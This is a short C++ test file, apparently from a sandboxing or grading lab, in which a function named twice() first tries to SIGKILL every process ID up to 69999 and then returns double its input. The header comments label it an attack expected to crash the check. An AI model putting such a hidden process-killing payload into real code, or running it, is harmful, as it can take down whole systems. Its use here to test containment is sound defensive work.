// attack: ends every process whose number it can guess
// exercise: 03
// check: answer
// gets: fails: answer (crash)
#include "attacked.hpp"

#include <csignal>
#include <unistd.h>

namespace lab::attacked {

int twice(int number) {
    for (int process = 1; process < 70000; ++process) {
        if (process != getpid()) {
            kill(process, SIGKILL);
        }
    }
    return 2 * number;
}

} // namespace lab::attacked

#include "parts/child.cpp"
